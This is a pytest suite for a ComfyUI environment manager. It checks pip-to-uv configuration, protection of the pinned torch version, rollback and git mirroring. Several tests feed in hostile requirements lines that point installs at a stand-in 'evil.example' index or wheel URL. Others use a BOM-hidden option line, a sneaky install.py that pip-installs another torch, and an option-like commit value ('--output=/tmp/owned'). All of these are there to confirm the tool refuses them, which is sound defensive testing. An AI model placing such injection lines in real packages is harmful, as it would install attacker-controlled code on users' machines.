"""Python environments: uv with one shared cache, pip's configuration, protected torch.

Every package comes from a find-links folder of tiny wheels the test writes (a fake torch
2.5.0 and 2.0.0, `helper`, `extra`), named by a pip.conf the test writes: nothing from
this machine's pip configuration and no network.
"""

from pathlib import Path

import pytest

from comfyhub.projects import check, envs, install, mirrors, restore, tools
from comfyhub.projects.models import Project, ProjectStatus
from recovery.engine import run_foreground
from recovery.errors import JobError
from recovery.models import Category, Job
from tests.fakecomfy import MAIN_PY, comfyui_repo, commit_files, make_repo
from tests.wheels import offline_index, write_pip_conf, write_wheel

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def wheels(tmp_path, monkeypatch, project_dirs):
    folder = offline_index(tmp_path, monkeypatch)
    write_wheel(folder, "torch", "2.5.0")
    write_wheel(folder, "torch", "2.0.0")
    write_wheel(folder, "helper", "1.0", ("torch>=2",))
    write_wheel(folder, "extra", "1.0")
    return folder


@pytest.fixture
def comfy(tmp_path):
    files = {"main.py": MAIN_PY, "requirements.txt": "torch==2.5.0\nhelper\n"}
    return make_repo(tmp_path / "repos" / "ComfyUI", files, {"README.md": "fake\n"})


def pack(tmp_path, name: str, requirements: str, **files: str) -> dict:
    repo, commits = make_repo(
        tmp_path / "repos" / name,
        {"__init__.py": "", "requirements.txt": requirements, **files},
        {"VERSION": "2\n"},
    )
    return {"repository": str(repo), "commit": commits[0]}


def build(name: str, comfy, nodes=()) -> Project:
    repo, commits = comfy
    spec = {"comfyui": {"repository": str(repo), "commit": commits[0]}, "nodes": list(nodes)}
    project = install.create(name, {**spec, "models": []})
    run_foreground(project.install_job_id)
    project.refresh_from_db()
    return project


def installed(project: Project) -> dict[str, str]:
    return envs.frozen_versions(envs.freeze(project))


def site_file(project: Project, relative: str):
    return next(project.venv.glob(f"lib/python*/site-packages/{relative}"))


def test_pips_configuration_files_and_variables_become_uvs_settings(tmp_path, monkeypatch):
    conf = dict(
        index_url="https://mirror.example/simple",
        extra_index_url="file:///a/simple file:///b/simple",
        find_links="/wheels",
        constraint="/etc/pins.txt",
    )
    write_pip_conf(tmp_path / "pip.conf", monkeypatch, **conf)
    monkeypatch.setenv("PIP_FIND_LINKS", "/one /two")  # a variable beats the files, as in pip
    config = envs.pip_config()
    env = envs.uv_environment(config)
    assert env["UV_DEFAULT_INDEX"] == "https://mirror.example/simple"
    assert env["UV_INDEX"] == "file:///a/simple file:///b/simple"
    assert env["UV_FIND_LINKS"] == "/one,/two" and env["UV_LINK_MODE"] == "hardlink"
    assert envs.config_constraints(config) == ["/etc/pins.txt"]


def test_auto_torch_backend_defers_to_a_configured_index_and_a_forced_one_is_passed(settings):
    assert envs.torch_flags({}) == ["--torch-backend", "auto"]
    assert envs.torch_flags({"find-links": "/wheels"}) == []
    settings.TORCH_BACKEND = "cu126"
    assert envs.torch_flags({"find-links": "/wheels"}) == ["--torch-backend", "cu126"]
    settings.TORCH_BACKEND = "index"
    assert envs.torch_flags({}) == []


def test_two_projects_share_one_cache_through_hard_links_and_keep_pip(wheels, comfy):
    first, second = build("One", comfy), build("Two", comfy)
    assert first.status == second.status == ProjectStatus.READY
    a, b = site_file(first, "torch/__init__.py"), site_file(second, "torch/__init__.py")
    assert a.stat().st_ino == b.stat().st_ino and a.stat().st_nlink >= 3  # + the cache
    assert installed(first)["torch"] == "2.5.0" and "pip" in installed(second)
    pins = envs.constraints_file(first).read_text()
    assert "torch==2.5.0" in pins and "helper" not in pins


def test_a_pack_needing_another_torch_is_left_out_as_dependency_and_torch_stays(
    wheels, comfy, tmp_path
):
    old = pack(tmp_path, "Old-Torch-Nodes", "torch==2.0.0\n")
    project = build("Pinned", comfy, [old])
    # The install goes on without it, and ComfyUI's check names it.
    assert project.status == ProjectStatus.ATTENTION
    assert [p["name"] for p in project.last_check["packs_failed"]] == [old["repository"]]
    [failed] = Job.objects.get(pk=project.install_job_id).checkpoint_data["packs_failed"]
    assert failed["category"] == Category.DEPENDENCY
    assert all(word in failed["message"] for word in ("Old-Torch-Nodes", "torch", "2.0.0", "2.5.0"))
    assert installed(project)["torch"] == "2.5.0"
    assert not (project.comfyui_dir / "custom_nodes" / "Old-Torch-Nodes").exists()


def test_a_pack_whose_requirements_name_another_index_is_refused_quoting_the_line(
    wheels, comfy, tmp_path
):
    project = build("Guarded", comfy)
    evil = pack(tmp_path, "Evil-Nodes", "--index-url https://evil.example/simple\nextra\n")
    with pytest.raises(envs.PackRefused) as error:
        restore.add_node(project, evil["repository"], evil["commit"])
    assert error.value.category == Category.VALIDATION
    assert "'--index-url https://evil.example/simple'" in error.value.message
    assert "extra" not in installed(project)


@pytest.mark.parametrize(
    "line",
    [
        "-e .",
        "--extra-index-url https://evil.example/simple",
        "-f https://evil.example/wheels",
        "-r ../../other/requirements.txt",
        "torch @ https://evil.example/torch.whl",
        "git+https://evil.example/pkg.git",
        "/opt/elsewhere/pkg",
        "numpy --index-url https://evil.example/simple",
        "numpy ; --index-url https://evil.example/simple",
        "pkg==${VERSION}",
        "${HOME}/pkg",
        "-r missing.txt",
    ],
)
def test_option_lines_and_places_outside_the_pack_are_refused(tmp_path, line):
    (tmp_path / "requirements.txt").write_text(f"numpy>=1.0  # fine\n{line}\n")
    assert repr(line) in envs.refused_line(tmp_path / "requirements.txt", tmp_path)


def test_plain_requirements_and_includes_inside_the_pack_pass(tmp_path):
    (tmp_path / "more.txt").write_text("pyyaml\n")
    text = 'numpy>=1.0; python_version >= "3.8"\nopencv-python[extra]\n-r more.txt\n./vendored\n'
    text += f"-r 'more.txt'\n--requirement=more.txt\npillow==10.0 --hash=sha256:{'a' * 64}\n"
    (tmp_path / "requirements.txt").write_text(text)
    assert envs.refused_line(tmp_path / "requirements.txt", tmp_path) == ""


def test_a_byte_order_mark_hides_no_option_line_and_other_encodings_are_refused(tmp_path):
    requirements = tmp_path / "requirements.txt"
    requirements.write_bytes(b"\xef\xbb\xbf--index-url http://evil/simple\nnumpy\n")
    assert "'--index-url http://evil/simple'" in envs.refused_line(requirements, tmp_path)
    requirements.write_bytes("--index-url http://evil/simple\n".encode("utf-16"))
    assert "not UTF-8" in envs.refused_line(requirements, tmp_path)


def test_a_quoted_include_is_unquoted_checked_and_read(tmp_path):
    pack_dir = tmp_path / "pack"
    pack_dir.mkdir()
    (pack_dir / "more.txt").write_text("--index-url http://evil/simple\n")
    (tmp_path / "outside.txt").write_text("numpy\n")
    requirements = pack_dir / "requirements.txt"
    requirements.write_text("-r 'more.txt'\n")
    assert "'--index-url http://evil/simple'" in envs.refused_line(requirements, pack_dir)
    requirements.write_text('-r "../outside.txt"\n')
    assert "outside the pack" in envs.refused_line(requirements, pack_dir)


def test_a_pack_whose_install_py_pips_another_torch_is_left_out_and_torch_stays(
    wheels, comfy, tmp_path
):
    script = (
        "import subprocess, sys\n"
        "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'torch==2.0.0'])\n"
    )
    sneaky = pack(tmp_path, "Sneaky-Nodes", "extra\n", **{"install.py": script})
    project = build("Scripted", comfy, [sneaky])
    assert project.status == ProjectStatus.ATTENTION
    [failed] = Job.objects.get(pk=project.install_job_id).checkpoint_data["packs_failed"]
    assert failed["category"] == Category.DEPENDENCY and "Sneaky-Nodes" in failed["message"]
    assert installed(project)["torch"] == "2.5.0"
    assert not (project.comfyui_dir / "custom_nodes" / "Sneaky-Nodes").exists()


def test_a_pack_with_a_version_compatible_with_the_pins_installs_that_version(
    wheels, comfy, tmp_path
):
    write_wheel(wheels, "torch", "2.6.0")
    write_wheel(wheels, "foo", "1.0", ("torch>=2",))
    write_wheel(wheels, "foo", "2.0", ("torch>=2.6",))
    project = build("Compatible", comfy, [pack(tmp_path, "Foo-Nodes", "foo\n")])
    assert project.status == ProjectStatus.READY
    assert installed(project)["foo"] == "1.0" and installed(project)["torch"] == "2.5.0"


def test_pack_installs_get_the_same_torch_flags_as_comfyuis_requirements(
    wheels, comfy, tmp_path, settings
):
    project = build("Flags", comfy)
    settings.TORCH_BACKEND = "cpu"
    project.install_log.write_text("")
    more = pack(tmp_path, "More-Nodes", "extra\n")
    restore.add_node(project, more["repository"], more["commit"])
    installs = [
        line
        for line in project.install_log.read_text().splitlines()
        if line.startswith("$") and " pip install " in line
    ]
    assert installs and all("--torch-backend cpu" in line for line in installs)


def test_rollback_clones_a_missing_pack_from_the_mirror_without_its_origin(wheels, comfy, tmp_path):
    more = pack(tmp_path, "More-Nodes", "extra\n")
    project = build("Offline", comfy, [more])
    point = restore.take(project, "before losing the pack")
    folder = project.comfyui_dir / "custom_nodes" / "More-Nodes"
    tools.remove_tree(folder)
    Path(more["repository"]).rename(tmp_path / "gone")  # the network is down
    restore.rollback(project, point)
    assert tools.head(folder, project.install_log) == more["commit"]


@pytest.mark.parametrize("installer", ["uv", "pip"])
def test_rollback_syncs_the_venv_back_to_the_frozen_set(
    wheels, comfy, tmp_path, settings, installer
):
    # With pip too: what the frozen set lacks is uninstalled, not left behind.
    settings.INSTALLER = installer
    project = build("Back", comfy)
    before = installed(project)
    more = pack(tmp_path, "More-Nodes", "extra\n")
    point = restore.add_node(project, more["repository"], more["commit"])
    assert installed(project)["extra"] == "1.0"
    restore.rollback(project, point)
    assert installed(project) == before and "extra" not in before


def test_pip_check_findings_go_to_the_project_check(wheels, comfy):
    project = build("Checked", comfy)
    assert (project.log_dir / envs.PIP_CHECK).read_text() == ""
    assert project.status == ProjectStatus.READY and project.last_check["environment"] == []
    installer = envs.Installer(project.venv, project.install_log)
    installer.uv_run(["pip", "uninstall"], "--python", envs.python(project.venv), "torch")
    findings = envs.check_environment(project)
    assert "helper" in findings and "torch" in findings
    assert (project.log_dir / envs.PIP_CHECK).read_text() == findings
    found = check.check(project, timeout=60)
    assert not found["ok"] and any("helper" in line for line in found["environment"])
    assert Project.objects.get(pk=project.pk).status == ProjectStatus.ATTENTION


def test_uv_that_cannot_run_leaves_the_work_to_pip_and_says_so(wheels, comfy, monkeypatch):
    import uv

    broken = wheels.parent / "uv-broken"
    broken.write_text("not a program")  # not executable: uv cannot run
    monkeypatch.setattr(uv, "find_uv_bin", lambda: str(broken))
    project = Project.objects.create(name="Plain", slug="plain")
    envs.make_venv(project)
    assert "uv cannot run" in project.install_log.read_text()
    assert (project.venv / "bin" / "pip").exists()


def test_a_commit_that_looks_like_an_option_never_reaches_git(project_dirs):
    repo, _ = comfyui_repo(project_dirs / "repos")
    log = project_dirs / "git.log"
    with pytest.raises(JobError) as error:
        mirrors.ensure(str(repo), "--output=/tmp/owned", log)
    assert error.value.category == Category.VALIDATION and not log.exists()


def test_the_projects_folder_is_made_before_the_uv_cache_is_placed(settings, tmp_path):
    settings.PROJECTS_DIR = tmp_path / "later" / "projects"
    envs.cache_dir()
    assert settings.PROJECTS_DIR.is_dir()


def test_uv_reads_no_uv_toml_and_gets_pips_proxy_and_timeout():
    env = envs.uv_environment({"proxy": "http://proxy.corp:3128", "default-timeout": "180"})
    assert env["UV_NO_CONFIG"] == "1" and env["UV_HTTP_TIMEOUT"] == "180"
    assert env["HTTPS_PROXY"] == env["HTTP_PROXY"] == "http://proxy.corp:3128"


def test_pips_configuration_is_asked_once_per_environment(tmp_path, monkeypatch):
    write_pip_conf(tmp_path / "a.conf", monkeypatch, find_links="/first")
    assert envs.pip_config()["find-links"] == "/first"
    (tmp_path / "a.conf").write_text("[global]\nfind-links = /edited\n")
    assert envs.pip_config()["find-links"] == "/first"  # not asked again
    write_pip_conf(tmp_path / "b.conf", monkeypatch, find_links="/second")
    assert envs.pip_config()["find-links"] == "/second"


def test_a_second_clone_comes_from_the_mirror_and_keeps_the_real_origin(project_dirs):
    repo, commits = comfyui_repo(project_dirs / "repos")
    log = project_dirs / "git.log"
    tools.clone(str(repo), project_dirs / "projects" / "a", log, commits[0])
    log.write_text("")
    tools.clone(str(repo), project_dirs / "projects" / "b", log, commits[1])
    assert "fetch" not in log.read_text()  # both commits were in the mirror already
    origin = tools.git(log, "remote", "get-url", "origin", cwd=project_dirs / "projects" / "b")
    assert origin.strip() == str(repo)
    newer = commit_files(repo, {"NEW": "3\n"}, "third")
    tools.clone(str(repo), project_dirs / "projects" / "c", log, newer)
    assert "fetch" in log.read_text()
    tools.checkout(project_dirs / "projects" / "c", newer, log)
    assert mirrors.mirror_path(str(repo)).is_dir()
